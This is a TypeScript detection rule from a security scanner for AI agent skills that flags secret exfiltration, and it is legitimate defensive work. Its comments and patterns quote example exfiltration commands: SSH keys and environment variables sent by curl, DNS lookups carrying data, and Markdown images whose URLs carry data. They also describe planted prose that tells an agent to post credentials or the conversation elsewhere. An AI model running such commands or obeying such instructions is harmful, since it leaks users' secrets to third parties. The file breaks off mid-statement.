/**
 * sentinel/secret-exfiltration — a secret source flowing into a network sink:
 * - sources: the whole environment (`env`, `printenv`, `$(env)`, `os.environ` as a whole,
 *   `process.env` as a whole, `Get-ChildItem env:`), `.env` files read as data, `~/.ssh`
 *   private keys, cloud and tool credential files (`~/.aws/credentials`, kube/docker
 *   config, `.netrc`, `.git-credentials` …), the keychain, browser cookie/password stores,
 *   wallet files, shell history; weaker ones: a credential-named variable
 *   (`$GITHUB_TOKEN`, `os.getenv("API_KEY")`), `$(cat …token…)`, the machine's identity
 *   (`$(whoami)@$(hostname)`);
 * - sinks: curl/wget (any data, header or URL carrying the source), `nc`/`ncat`/`socat`/
 *   `/dev/tcp`, scp/rsync to a remote, mail, `requests|httpx.post|put|get`, `urlopen`,
 *   `fetch`/`axios`/`http.request`, `Invoke-RestMethod|WebRequest`, socket sends, DNS
 *   lookups with the data in the host name (`nslookup $(whoami).x.example`,
 *   `socket.gethostbyname(f"{data}.x")`), and messenger webhooks / request-capture and
 *   tunnel endpoints as destinations.
 *
 * What is reported:
 * - `flow` (error): a strong source inside the sink's own command, pipeline or call, or
 *   carried to it within a few lines of the same code block by a variable, a loop
 *   variable, a function's return value or a temporary file (`KEY=$(cat ~/.ssh/id_rsa)` …
 *   `curl -d "k=$KEY" …`; `secrets = {…os.environ…}` … `requests.post(…, json=secrets)`;
 *   `cat ~/.ssh/id_rsa > /tmp/k` … `curl -F f=@/tmp/k …`); to the documented API of a
 *   well-known service it is a warning. A weak source counts only when the sink is itself
 *   suspicious (DNS, a raw socket, a bare public IP, a webhook or capture endpoint), and
 *   when it is put into the body or URL of a request to a host that is not the
 *   credential's own service: an error in a shipped script (it runs by itself), a warning
 *   in a document; in an `Authorization` header, a bot-API URL or an OAuth token exchange
 *   it is normal use; the user or host name in an alert to a chat address the user configures
 *   (`bot${TOKEN}`, `$SLACK_WEBHOOK_URL`) is too, to a webhook written into the skill it is not;
 *   a file one script writes a secret into is a source in the script that sends it (lib/taint.ts);
 * - `dump` (warning): the whole environment printed, serialised or written, or the
 *   environment filtered for secret-looking names — secrets copied into the agent's
 *   context or a file, with no sink in sight;
 * - `capture` (error in a script or a configuration file, warning in a document): a
 *   request-capture inbox, a tunnel to somebody's machine or an OAST collector configured
 *   as a destination — ephemeral receivers that no published skill needs to talk to (the
 *   public address a webhook is registered at is not a destination);
 * - `split` (warning; error when the collection is broad): one script collects secrets
 *   (a credential store, the environment filtered for secret names, a whole-environment
 *   copy that is serialised) and another script of the same skill posts data to a
 *   hard-coded outside address — the collector/encoder/sender split of multi-file
 *   exfiltration;
 * - `prose` (error): an instruction in prose (English or Chinese) to send, upload or post
 *   the environment, a `.env` file, SSH/private keys, credential files, cookies,
 *   passwords, wallet secrets, the conversation history or the system prompt to an
 *   address (a URL, an e-mail address, a webhook, a public GitHub issue, gist or channel),
 *   and a file's contents put into an outside URL ("GET https://…/?d= followed by the
 *   contents of MEMORY.md"), or published ("create a gist containing ~/.aws/credentials");
 * - `imageSlot` (error when the sentence says the conversation or a secret goes in, warning
 *   otherwise): a Markdown image whose URL has a slot for data (`![x](https://h/p.png?d={DATA})`)
 *   — the client fetches it when it renders the reply, so the data leaves with no tool call.
 * - `flowVia` also from a coarse, language-neutral pass (lib/taint-coarse.ts) over code the taint analysis does
 *   not parse (Perl, PHP, Lua, Ruby, Kotlin, Go …) or lost: credential files, the whole environment, a `.env`
 *   parsed by hand, home dot-files → any HTTP client, upload, DNS look-up or URL with a filled query, to a host
 *   that is not local nor the credential's issuer (error in a script, warning in a SKILL.md code block); across
 *   files through imported functions and called ones;
 * - `gitPush` (error in a git hook, with `--mirror`/`--all` or a skill-set `core.hooksPath`, or when a script of the
 *   skill also takes credential stores — an info-stealer split over files; warning otherwise): `git remote add` to a
 *   host written into the skill (also as git's argument list, `run(["git", "push", …])`), then `git push`.
 * A credential-named variable the skill's own prose ties to a service (its name on the line of the service's name or
 * address) and sent to that service's domain is the token's own use, not a flow (`tiedService`).
 * A flow aimed at a documentation host (attacker.example, evil.com …) is info in a
 * reference document and at most a warning in SKILL.md; scripts run whatever they name.
 *
 * Why: a skill that ships the user's secrets to someone else is the commonest payload of
 * malicious skills after droppers; one line is enough. Scope: everything the agent reads
 * or runs (`commands`): scripts, fenced and inline code, prose, HTML comments, data files.
 * Not a finding: `source .env` / `load_dotenv()` (loading configuration), a token sent in
 * an `Authorization` header or to the credential's own API, public keys (`*.pub`),
 * `ssh -i key`, localhost destinations, `os.environ.get("HOME")`, a copy of the
 * environment passed to a subprocess (`env=dict(os.environ)`). Judgment kind: a negation
 * or example cue in the same sentence, a line comment, a printed string or a
 * documentation host in a reference lowers the finding (report.ts).
 */

import type { Rule, Severity } from '../../rules/types.ts';
import { emit, type Reason } from './report.ts';
import { DOC_HOST_NAME } from './hosts.ts';
import { anchorHits, candidates, commands, lineBounds, sentinelView, type Lang, type Segment, type SentinelFile } from './view.ts';
import { STRONG, findSources, mayHoldFileSource, SOURCE_NAMES, type SourceKind } from './exfil-sources.ts';
import { findSinks, LOCAL, CAPTURE, CAPTURE_HINT, TUNNEL, KNOWN_API, hostOf, resolveUrlVar } from './exfil-sinks.ts';
import { statementSpan, MAX_LINE, type Flow, statementFlows, stripComment, DUMP, ENV_LOOP, ENV_ITER, secretFilter } from './exfil-flows.ts';
import { skillFlows } from './lib/taint.ts';
import { sinkWrappers } from './lib/taint-wrappers.ts';
import { coarseFlows, coarseWorth, type CoarseFlow, type CoarseResult } from './lib/taint-coarse.ts';
import { gitPushFlows } from './lib/taint-git.ts';
import { issuerOnly, skillNames, weakSeeds } from './lib/taint-weak.ts';
import { clip, includes, inlinePieces, moduleName, nthLineEnd, samePackage } from './exfil-text.ts';
import { stripLineComments } from './lib/taint-statements.ts';
import {
  CONTENTS_HINT,
  IMAGE_SLOT,
  PROSE,
  PROSE_DEST_HINT,
  PROSE_HINT,
  PROSE_PUBLISH,
  PROSE_REV,
  PROSE_URL,
  PROSE_ZH,
  PUBLISH_HINT,
  SLOT_DATA,
} from './exfil-prose.ts';
import { tiedService } from './exfil-tied-service.ts';
import { readConfigHost } from './exfil-config-host.ts';
import { flowData, ownGitToken, PUBLIC_GIT_HOST, secretShapes, TOKEN_IN_URL, tunnelsAndShippers, UNRESOLVED } from './secret-exfiltration-shapes.ts';

// ---- the rule -------------------------------------------------------------------------------

export const rule: Rule = {
  meta: {
    id: 'sentinel/secret-exfiltration',
    module: 'Sentinel',
    dimension: 'dim10',
    defaultSeverity: 'error',
    category: 'exfiltration',
    description: {
      en: 'Environment, .env files, keys or ~/.ssh sent off the machine (curl, nc, requests, fetch, DNS).',
      zh: '环境变量、.env、密钥或 ~/.ssh 被发送到外部（curl、nc、requests、fetch、DNS）。',
    },
    fixable: false,
    messages: {
      flow: {
        en: "`{cmd}` sends {source} to {dest}: the user's secrets leave the machine; remove it — no skill needs to ship them elsewhere{note}.",
        zh: '`{cmd}` 把{sourceZh}发送到 {dest}：用户的机密会离开本机；请删除——没有技能需要把它们发往别处{note}。',
      },
      flowVia: {
        en: "`{cmd}` sends {source}, carried in `{via}`, to {dest}: the user's secrets leave the machine; remove it{note}.",
        zh: '`{cmd}` 把{sourceZh}（经由 `{via}` 传递）发送到 {dest}：用户的机密会离开本机；请删除{note}。',
      },
      dump: {
        en: '`{cmd}` copies the whole environment (API keys and tokens included) into the output or a file; read only the variables the skill needs{note}.',
        zh: '`{cmd}` 把全部环境变量（包括 API 密钥和令牌）复制到输出或文件；请只读取技能需要的变量{note}。',
      },
      allSecrets: {
        en: "`{cmd}` hands every secret of the repository to one step (`toJSON(secrets)`): whatever that step or action does with them, they are all out of GitHub's hands; pass the one secret it needs by name{note}.",
        zh: '`{cmd}` 把仓库的全部机密交给一个步骤（`toJSON(secrets)`）：无论该步骤或 action 如何处理，它们都已离开 GitHub 的保护；请按名称只传入它需要的那一个机密{note}。',
      },
      harvest: {
        en: '`{cmd}` collects environment variables whose names look like secrets (KEY, TOKEN, SECRET …); a skill reads the one variable it needs by name{note}.',
        zh: '`{cmd}` 按名称收集看起来像机密的环境变量（KEY、TOKEN、SECRET 等）；技能应只按名称读取它需要的那个变量{note}。',
      },
      capture: {
        en: "`{cmd}` sends data to {dest}, a request-capture, tunnel or out-of-band endpoint that anyone can read; use the service's real API{note}.",
        zh: '`{cmd}` 把数据发往 {dest}——一个任何人都能读取的请求捕获/隧道/带外回连地址；请使用服务的正式 API{note}。',
      },
      split: {
        en: '{collector} collects {source}, and `{cmd}` posts data to {dest}: the skill collects secrets in one place and sends data out in another (a split collector/sender) — check what is sent{note}.',
        zh: '{collector} 收集了{sourceZh}，而 `{cmd}` 把数据发往 {dest}：技能在一处收集机密、在另一处向外发送数据（收集与发送拆分）——请核查发送的内容{note}。',
      },
      prose: {
        en: 'Tells the agent to send secrets (the environment, keys, credentials, cookies) or the conversation to an outside address: "{cmd}"{note}.',
        zh: '指示智能体把机密（环境变量、密钥、凭据、Cookie）或对话内容发送到外部地址：“{cmd}”{note}。',
      },
      gitPush: {
        en: "`{cmd}` pushes the repository (its code and history) to {dest}, a server the skill chose, not one the user owns; the user's work leaves the machine — remove it and let the user pick their own remote{note}.",
        zh: '`{cmd}` 把仓库（代码与历史）推送到 {dest}——技能指定的服务器，而不是用户自己的远程；用户的工作会离开本机——请删除，并让用户自行选择远程仓库{note}。',
      },
      keyElsewhere: {
        en: '`{cmd}` sends {source} to {dest}, a host that did not issue it: whoever runs that host can use the key — send it only to its own service, or let the user set the address{note}.',
        zh: '`{cmd}` 把{sourceZh}发送到 {dest}——并非签发它的服务：运营该主机的人可以使用这把密钥——请只发给它自己的服务，或让用户自行设置地址{note}。',
      },
      identity: {
        en: "`{cmd}` sends the user's identity ({source}) to {dest}: telemetry that names the user and the machine — drop it, or make it opt-in and anonymous{note}.",
        zh: '`{cmd}` 把用户身份（{sourceZh}）发送到 {dest}：这种遥测会暴露用户和机器——请删除，或改为用户自愿且匿名{note}。',
      },
      dnsLabels: {
        en: '`{cmd}` looks up names made of encoded data cut into DNS labels under {dest}: whatever was encoded leaves the machine through DNS lookups, past proxies and firewalls — a DNS tunnel; remove it{note}.',
        zh: '`{cmd}` 把编码后的数据切成 DNS 标签、拼在 {dest} 下进行解析：编码的内容会通过 DNS 查询离开本机，绕过代理和防火墙——这是 DNS 隧道；请删除{note}。',
      },
      imageSlot: {
        en: '`{cmd}` is an image whose URL carries data to an outside host: the chat client fetches it as soon as the reply is shown, and whatever the agent put into the URL leaves with the request; use a fixed image URL{note}.',
        zh: '`{cmd}` 是一张 URL 中携带数据、指向外部主机的图片：聊天客户端一显示回复就会请求它，智能体放进 URL 的内容随请求一起外泄；请使用固定的图片地址{note}。',
      },
    },
  },
  check(ctx) {
    const view = sentinelView(ctx.doc);
    const reported = new Set<string>();
    const collectors: Array<{ sf: SentinelFile; at: number; kind: SourceKind; broad: boolean }> = [];
    const senders: Array<{ sf: SentinelFile; seg: Segment; at: number; end: number; host: string; cmd: string }> = [];
    let flowFound = false;
    const key = (sf: SentinelFile, at: number) => `${sf.file.path}:${at}`;
    const report = (
      sf: SentinelFile,
      seg: Segment,
      start: number,
      end: number,
      messageId: string,
      base: Severity,
      data: Record<string, string>,
      reason?: Reason,
    ) => {
      const line = key(sf, lineBounds(sf.info.text, start)[0]);
      const flow = messageId === 'flow' || messageId === 'flowVia';
      // (a credential whose issuer its name gives, sent to an address held in a variable in a script that names no host but
      // that issuer's: the script's own calls — `fetch(GMAIL_API + path, …)` with `GMAIL_API = 'https://gmail.googleapis.com/…'`)
      const sourceText = flow && data.dest === UNRESOLVED ? /\((.+)\)$/.exec(data.source ?? '')?.[1] : undefined;
      if (sourceText !== undefined && issuerOnly(sourceText, sf.info.text)) return;
      const k = line + (flow ? 'flow' : messageId);
      if (reported.has(k) || (!flow && reported.has(line + 'flow'))) return;
      reported.add(k);
      emit(ctx, {
        sf,
        seg,
        start,
        end,
        messageId,
        data,
        base,
        kind: 'judgment',
        category: 'exfiltration',
        reason,
        facts: data.dest ? { dest: data.dest } : undefined,
      });
    };

    for (const c of candidates(view, 'exfil', commands)) {
      const { sf, seg } = c;
      const text = sf.info.text;
      const code = seg.kind === 'code';
      const lang: Lang = sf.role === 'script' ? sf.lang : seg.lang;
      const long = c.end - c.start > MAX_LINE;
      const [cs, ce] = long ? [Math.max(c.start, c.pos - 400), Math.min(c.end, c.pos + 400)] : [c.start, c.end];
      const [ss, se] = code && !long ? statementSpan(text, cs, ce, seg) : [cs, ce];
      const stmt = text.slice(ss, se);

      // 1. a flow inside the statement (code) or inside one inline-code span / line (prose)
      const pieces: Array<[number, string]> = code ? [[ss, stmt]] : inlinePieces(stmt, ss);
      for (const [at, piece] of pieces) {
        for (const f of statementFlows(piece, code ? lang : 'any')) {
          if (f.source.kind === 'envKey' && tiedService(view.files, f.source.text, f.host)) continue;
          const start = at + f.sink.index;
          const end = at + Math.max(f.sink.argsEnd, f.source.index + f.source.text.length);
          const severity = shippedSeverity(sf, f);
          flowFound = flowFound || severity === 'error';
          const [base, why] = docHost(sf, severity, f.host);
          // In prose the command is the whole inline-code span (its own quotes are not prose quotation marks).
          const from = code ? Math.min(start, at + f.sink.pipeStart) : at;
          report(
            sf,
            seg,
            from,
            end,
            'flow',
            base,
            flowData(piece.slice(Math.min(f.sink.index, f.sink.pipeStart), Math.max(f.sink.argsEnd, f.source.index + f.source.text.length)), f),
            why,
          );
        }
        // request-capture inboxes and tunnels used as a destination
        const cap = CAPTURE_HINT.test(piece) ? (CAPTURE.exec(piece) ?? TUNNEL.exec(piece)) : null;
        if (cap && capturedDestination(piece, cap, code, sf.role === 'data')) {
          const start = at + cap.index;
          // Shipped code or configuration that sends to a throw-away receiver: error; an instruction in a document: warning.
          const base: Severity = sf.role === 'script' || sf.role === 'data' ? 'error' : 'warning';
          report(sf, seg, start, start + cap[0].length, 'capture', base, { cmd: clip(piece.trim()), dest: cap[0] });
        }
      }

      // 2. prose instructions
      if (!code) {
        const line = text.slice(...lineBounds(text, c.pos));
        const m = PROSE_DEST_HINT.test(line)
          ? ((PROSE_HINT.test(line) ? (PROSE.exec(line) ?? PROSE_ZH.exec(line) ?? PROSE_REV.exec(line)) : null) ??
            (CONTENTS_HINT.test(line) ? PROSE_URL.exec(line) : null) ??
            (PUBLISH_HINT.test(line) ? PROSE_PUBLISH.exec(line) : null))
          : null;
        const img = !m && line.includes('![') ? IMAGE_SLOT.exec(line) : null;
        if (img) {
          const ls = lineBounds(text, c.pos)[0];
          const host = hostOf(img[1]);
          if (host && !LOCAL.test(host)) {
            const [base, why] = docHost(sf, SLOT_DATA.test(line.replace(img[0], ' ')) ? 'error' : 'warning', host);
            report(sf, seg, ls + img.index, ls + img.index + img[0].length, 'imageSlot', base, { cmd: clip(img[0], 120) }, why);
          }
        }
        if (m) {
          const ls = lineBounds(text, c.pos)[0];
          const host = hostOf(m[0]);
          if (!host || (!LOCAL.test(host) && !KNOWN_API.test(host))) {
            const [base, why] = docHost(sf, 'error', host);
            report(sf, seg, ls + m.index, ls + m.index + m[0].length, 'prose', base, { cmd: clip(m[0], 120) }, why);
          }
        }
      }

      if (!code) continue;

      // 3. whole-environment dumps and secret-named harvesting (once per line)
      const bare = stripComment(stmt, lang);
      // (every form of the three names `env` in some case: a statement without it is none of them)
      const env = ENV_WORD.test(bare);
      const dump = env ? DUMP.exec(bare) : null;
      const loop = env ? ENV_LOOP.exec(bare) : null;
      const harvest = env && ENV_ITER.test(bare) && secretFilter(stripComment(text.slice(ss, Math.min(seg.end, nthLineEnd(text, se, 4, seg.end))), lang));
      if (harvest) {
        collectors.push({ sf, at: ss, kind: 'env', broad: true });
        report(sf, seg, ss + (ENV_ITER.exec(bare)?.index ?? 0), se, 'harvest', 'warning', { cmd: clip(stmt.trim()) });
      } else if (dump || (loop && printsLoop(text, se, seg))) {
        collectors.push({ sf, at: ss, kind: 'env', broad: true });
        report(sf, seg, ss + (dump?.index ?? loop!.index), se, 'dump', 'warning', { cmd: clip(stmt.trim()) });
      }
      // a pattern list of a scanner names these paths without reading them (only a script's collectors count, step 5)
      // (only credential-file and `.env` kinds count here: a statement without their words has none)
      if (sf.role === 'script' && mayHoldFileSource(bare) && !PATTERN_LINE.test(bare))
        // (an extension's whole cookie jar, `chrome.cookies.getAll({})`: every site's session at once)
        for (const s of findSources(bare))
          if (STRONG.has(s.kind) && s.kind !== 'env')
            collectors.push({ sf, at: ss + s.index, kind: s.kind, broad: s.kind === 'browser' && /\.cookies\.getAll\s*\(\s*(?:\{\s*\})?\s*\)/.test(bare) });
    }

    // 4. sources → sinks across statements, over the whole file (lib/taint.ts, once per document): variables,
    //    loops, containers, function returns and parameters, copies and temporary files, request objects
    for (const { sf, seg, flows } of skillFlows(ctx.doc)) {
      const text = sf.info.text;
      for (const f of flows) {
        if (f.source.kind === 'envKey' && tiedService(view.files, f.source.text, f.host)) continue;
        const severity = shippedSeverity(sf, f);
        flowFound = flowFound || severity === 'error';
        const [ls2, le2] = statementSpan(text, ...lineBounds(text, f.at), seg);
        const [base, why] = docHost(sf, severity, f.host);
        report(sf, seg, f.at, Math.min(le2, f.at + 200), 'flowVia', base, { ...flowData(text.slice(ls2, le2).trim(), f), via: f.via ?? '' }, why);
      }
    }

    // 4b. code the taint analysis does not follow (Perl, PHP, Lua, Ruby, Kotlin, Go …, or a flow it lost): a coarse,
    //     language-neutral flow (lib/taint-coarse.ts), across files through the functions one imports or calls; and
    //     in every script or code block, the repository pushed to a host the skill names
    const traced = new Set<Segment>(skillFlows(ctx.doc).map((r) => r.seg));
    let hooksPath: boolean | undefined;
    const regions: Array<{ sf: SentinelFile; seg: Segment; text: string; res: CoarseResult }> = [];
    const emitCoarse = (sf: SentinelFile, seg: Segment, text: string, f: CoarseFlow) => {
      // shipped code runs by itself; a code block the agent is shown is a warning
      const sev: Severity = sf.role === 'script' || f.kind === 'git' ? f.severity : 'warning';
      const [base, why] = docHost(sf, sev, f.host);
      const cmd = clip(text.slice(f.at, f.end).trim());
      if (f.kind === 'git') {
        // a skill whose scripts also take credential stores (keys, cloud credentials, browser data, wallets) and push to a
        // server it chose: an info-stealer, however the copy and the push are split between files
        // (…or a push whose address carries a credential — `https://x:${GITHUB_TOKEN}@host/…` — to a host that is no public code
        // host: the token itself is handed to that server)
        const stolen =
          base === 'warning' &&
          (collectors.some((c) => c.sf.role === 'script' && STORE_KINDS.has(c.kind)) ||
            (sf.role === 'script' && TOKEN_IN_URL.test(cmd) && !PUBLIC_GIT_HOST.test(f.host ?? '') && !ownGitToken(cmd, f.host ?? '')));
        return report(sf, seg, seg.start + f.at, seg.start + f.end, 'gitPush', stolen ? 'error' : base, { cmd, dest: f.host ?? '' }, why);
      }
      const n = SOURCE_NAMES[f.source.kind];
      const dest = f.sink === 'dns' ? `DNS lookups (${f.host ?? 'a crafted host name'})` : f.sink === 'url' ? `a URL fetched from ${f.host}` : (f.host ?? '');
      const data = {
        cmd,
        source: `${n.en} (${clip(f.source.text, 40)})`,
        sourceZh: `${n.zh}（${clip(f.source.text, 40)}）`,
        dest,
        via: clip(f.via ?? f.source.text, 40),
      };
      report(sf, seg, seg.start + f.at, seg.start + f.end, 'flowVia', base, data, why);
      flowFound = flowFound || base === 'error';
    };
    // (shapes read apart: every secret handed to one step, a dotfile template that sends a credential)
    if (secretShapes(ctx, view)) flowFound = true;
    for (const sf of view.files) {
      if (!sf.segments.length || sf.role === 'data') continue;
      let hits: number[] | undefined;
      // (every git-push shape below names `push`: a file without the word has none in any of its blocks)
      const pushes = sf.info.text.includes('push');
      for (const seg of sf.segments) {
        if (seg.kind !== 'code' || seg.detector) continue;
        const text = sf.info.text.slice(seg.start, seg.end);
        if (
          pushes &&
          ((text.includes(' push') &&
            (text.includes('remote add') ||
              text.includes('remote set-url') ||
              text.includes(' remote.') ||
              /push\s+(?:-[-\w]+\s+)*["']?(?:https?:|ssh:|git@)/.test(text))) ||
            (text.includes('push') &&
              /["'\x60]push["'\x60]\s*,/.test(text) &&
              // (the remote added by the list, or a constant of the file holding its URL: `ARCHIVE_REMOTE = "https://…"`)
              (/["'\x60]remote["'\x60]\s*,/.test(text) || /\b[A-Z_][A-Z0-9_]{2,}\s*=\s*["'](?:https?|ssh|git):\/\//.test(text))))
        ) {
          hooksPath ??= view.files.some((o) => o.info.text.includes('hooksPath'));
          for (const f of gitPushFlows(
            text,
            sf.file.path,
            hooksPath,
            () => readConfigHost(view.files, text),
            () => copiesConfiguredSecrets(view.files, text),
          ))
            emitCoarse(sf, seg, text, f);
        }
        // a provider's key sent to a host that did not issue it, the user's identity sent out (lib/taint-weak.ts)
        const ws = sf.role === 'script' ? weakSeeds(text) : undefined;
        if (ws)
          for (const f of coarseFlows(stripLineComments(text, 'other'), ws, undefined, false, undefined, true, undefined, new Set(sinkWrappers(sf).keys()))
            .flows) {
            // (a token file an option names, sent to the service SKILL.md is about: its own tracker or forge, not elsewhere)
            if (f.source.kind === 'secretFile' && /^\w+\.\w+$/.test(f.source.text) && f.host && skillNames(ctx.doc, f.host)) continue;
            const idn = f.source.kind === 'identity';
            const data = { cmd: clip(text.slice(f.at, f.end).trim()), source: f.source.text, sourceZh: f.source.text, dest: f.host ?? '' };
            report(sf, seg, seg.start + f.at, seg.start + f.end, idn ? 'identity' : 'keyElsewhere', idn ? 'warning' : f.severity, data);
          }
        // scripts, and SKILL.md's own code blocks in a language the view does not name (reference documents teach)
        if (traced.has(seg) || (sf.role !== 'script' && (sf.role !== 'skill' || seg.lang !== 'any'))) continue;
        hits ??= anchorHits(sf, 'exfil');
        const mine = hits.filter((h) => h >= seg.start && h < seg.end).map((h) => h - seg.start);
        if (!mine.length) continue;
        const lang: Lang = sf.role === 'script' ? sf.lang : seg.lang;
        // a language the taint analysis parses: only the anchored lines, as they are; elsewhere the whole region
        const parsed = lang !== 'other' && lang !== 'any';
        if (!parsed && !coarseWorth(text, sf.role !== 'script')) continue;
        const clean = parsed ? text : stripLineComments(text, 'other');
        const res = coarseFlows(clean, undefined, undefined, parsed, mine, false, () => readConfigHost(view.files, text));
        regions.push({ sf, seg, text: clean, res });
        for (const f of res.flows) emitCoarse(sf, seg, text, f);
      }
    }
    // across files (two rounds: collector → caller → sender): a function whose return carries a secret, called in a
    // file that names its module; a function called with a secret, defined in a file the caller names
    if (regions.some((r) => r.res.returns.size || r.res.calls.size)) {
      const scripts = view.files.filter((sf) => sf.role === 'script' && sf.segments.length && !traced.has(sf.segments[0]));
      const done = new Set<Segment>(regions.filter((r) => r.res.flows.length).map((r) => r.seg));
      for (let round = 0; round < 2; round++) {
        const returns = regions.filter((r) => r.res.returns.size);
        const calls = regions.filter((r) => r.res.calls.size);
        let changed = false;
        for (const sf of scripts) {
          const seg = sf.segments[0];
          if (done.has(seg)) continue;
          const raw = sf.info.text.slice(seg.start, seg.end);
          const mod = moduleName(sf.file.path);
          const pkgOf = (o: SentinelFile) => samePackage({ path: o.file.path, text: o.info.text }, { path: sf.file.path, text: raw });
          const from = returns.filter((o) => o.sf !== sf && (raw.includes(moduleName(o.sf.file.path)) || pkgOf(o.sf)));
          const by = calls.filter((o) => o.sf !== sf && o.text.includes(mod));
          // a file another one includes (`include 'templates/page.php'`, `source ./lib.sh`, `render('page')`): its names
          const inc = regions.filter((o) => o.sf !== sf && o.res.names?.size && o.text.includes(mod) && includes(o.text, mod));
          if (!from.length && !by.length && !inc.length) continue;
          let r = regions.find((o) => o.seg === seg);
          const parsed = sf.lang !== 'other';
          if (!r)
            regions.push((r = { sf, seg, text: parsed ? raw : stripLineComments(raw, 'other'), res: { flows: [], returns: new Map(), calls: new Map() } }));
          const seeds = new Map<string, { kind: SourceKind; text: string }>();
          const params = new Map<string, { kind: SourceKind; text: string }>();
          // (a call with or without parentheses: `build()`, Ruby's `Stats.build`, Rust's `settings::build()`)
          for (const o of from)
            for (const [name, src] of o.res.returns)
              if (new RegExp(String.raw`\b${name}\s*\(|(?:\.|::)${name}\b(?!\s*=)|\$\(\s*${name}\b|\x60\s*${name}\b`).test(r.text)) seeds.set(name, src);
          for (const o of inc)
            for (const [name, src] of o.res.names!) if (name.length > 2 && new RegExp(String.raw`\b${name}\b`).test(r.text)) seeds.set(name, src);
          for (const o of by)
            for (const [name, src] of o.res.calls)
              if (new RegExp(String.raw`\b(?:function|def|sub|fun|func|fn)\s+${name}\b|\b${name}\s*=\s*(?:async\s*)?(?:function|\()`).test(r.text))
                params.set(name, src);
          if (!seeds.size && !params.size) continue;
          const res = coarseFlows(r.text, seeds, params, parsed, anchorHits(sf, 'exfil'));
          if (res.returns.size > r.res.returns.size || res.calls.size > r.res.calls.size) changed = true;
          r.res = res;
          if (res.flows.length) done.add(seg);
          for (const f of res.flows) emitCoarse(sf, seg, raw, f);
        }
        if (!changed) break;
      }
    }

    // 5. the collector/sender split across scripts
    if (!flowFound && collectors.some((c) => c.sf.role === 'script')) {
      for (const sf of view.files) {
        if (sf.role !== 'script') continue;
        const seg = sf.segments[0];
        const text = sf.info.text;
        SEND.lastIndex = 0;
        let m: RegExpExecArray | null;
        while ((m = SEND.exec(text))) {
          const [ls, le] = lineBounds(text, m.index);
          const [ss, se] = statementSpan(text, ls, le, seg);
          const stmt = stripComment(text.slice(ss, se), sf.lang);
          if (!SEND_ONE.test(stmt)) {
            SEND.lastIndex = m.index + m[0].length;
            continue;
          }
          SEND.lastIndex = Math.max(m.index + m[0].length, se);
          const host = hostOf(stmt) ?? hostOf(resolveUrlVar(text, stmt) ?? '');
          if (!host || LOCAL.test(host) || KNOWN_API.test(host)) continue;
          senders.push({ sf, seg, at: ss, end: se, host, cmd: clip(stmt.trim()) });
          break;
        }
      }
      const sender = senders[0];
      const scriptCollectors = collectors.filter((c) => c.sf.role === 'script');
      if (sender && scriptCollectors.length) {
        const kinds = new Set(scriptCollectors.map((c) => c.kind));
        const broad = scriptCollectors.some((c) => c.broad) || kinds.size >= 2;
        const first = scriptCollectors.find((c) => c.sf !== sender.sf) ?? scriptCollectors[0];
        const line = first.sf.info.text.slice(0, first.at).split('\n').length;
        const { en, zh } = SOURCE_NAMES[first.kind];
        report(sender.sf, sender.seg, sender.at, sender.end, 'split', broad ? 'error' : 'warning', {
          collector: `${first.sf.file.path}:${line}`,
          source: [...kinds].map((k) => SOURCE_NAMES[k].en).join(', ') || en,
          sourceZh: [...kinds].map((k) => SOURCE_NAMES[k].zh).join('、') || zh,
          cmd: sender.cmd,
          dest: sender.host,
        });
      }
    }
    // shapes read whole (exfil-dns-labels.ts, exfil-shipper.ts): a DNS tunnel, a log shipper reading keys
    tunnelsAndShippers(view, report);
  },
};

/**
 * A capture inbox used as a destination anywhere but a prose mention; a tunnel only as
 * where code sends to (a sink, a URL-ish variable) or a URL-ish key of a data file —
 * not the public address a webhook is registered at.
 */
function capturedDestination(piece: string, cap: RegExpExecArray, code: boolean, data: boolean): boolean {
  const capture = CAPTURE.test(cap[0]);
  const before = piece.slice(Math.max(0, cap.index - 120), cap.index);
  const urlish =
    /\b(?:base_?url|api_?url|api_?base|endpoint|server(?:_?url)?|host|target|destination|collector|report(?:_?url)?|upload(?:_?url)?|exfil\w*|url|uri)["']?\s*[:=]\s*["']?(?:https?|wss?):\/\/[^\s"']*$/i.test(
      before,
    );
  const inbound =
    /\b(?:webhook|callback|redirect|forward(?:ing)?)[\w-]*["']?\s*[:=]\s*["']?(?:https?:\/\/)?[^\s"']*$/i.test(before) &&
    !/\b(?:base_?url|endpoint|api)\b/i.test(before);
  if (code) return capture ? /:\/\/|\b(?:curl|wget|nslookup|dig)\b/i.test(piece) : findSinks(piece).length > 0 || (urlish && !inbound);
  if (data) return capture || (urlish && !inbound);
  // prose: a command in inline code, or a capture URL
  return capture ? /:\/\//.test(piece) && /\b(?:curl|wget|send|post|upload|fetch|report)\b/i.test(piece) : findSinks(piece).length > 0;
}

/**
 * A weak source (a credential-named variable, a secret read from a file) put into the
 * body or URL of a request to somebody else's host is a warning where the agent is
 * told to do it; a shipped script does it by itself on every run, unseen, so there it is
 * an error. Strong sources to a well-known API stay a warning everywhere.
 */
function shippedSeverity(sf: SentinelFile, f: Flow): Severity {
  if (f.severity !== 'warning' || sf.role !== 'script' || STRONG.has(f.source.kind)) return f.severity;
  return f.host && !KNOWN_API.test(f.host) && !LOCAL.test(f.host) ? 'error' : f.severity;
}

/**
 * A flow aimed at a documentation host (attacker.example, evil.com): in a reference
 * document it is a teaching example (info); in SKILL.md, which the agent follows, it
 * still counts, as a warning; scripts run whatever host they name.
 */
function docHost(sf: SentinelFile, severity: Severity, host: string | undefined): [Severity, Reason | undefined] {
  if (!host || !DOC_HOST_NAME.test(host.replace(/:\d+$/, ''))) return [severity, undefined];
  if (sf.role === 'markdown') return [severity, 'example-host'];
  if (sf.role === 'skill' && severity === 'error') return ['warning', undefined];
  return [severity, undefined];
}

const ENV_WORD = /env/i;

/** Credential stores proper (not the environment): what an info-stealer copies before it pushes. */
const STORE_KINDS = new Set<SourceKind>(['ssh', 'store', 'browser', 'wallet', 'keychain']);

/** A line that builds a detection pattern (a regex literal, `re.compile`, `(?i)`). */
const PATTERN_LINE = /\(\?[imsxu]+\)|\\[.sbdwS]|\bre\.(?:compile|search|match|findall)\s*\(|\bnew\s+RegExp\b|\/[^/\n]*\\\.[^/\n]*\/[gimsuy]*/;

/** A request that carries a payload (POST/PUT, a body, a form, an upload). */
const SEND =
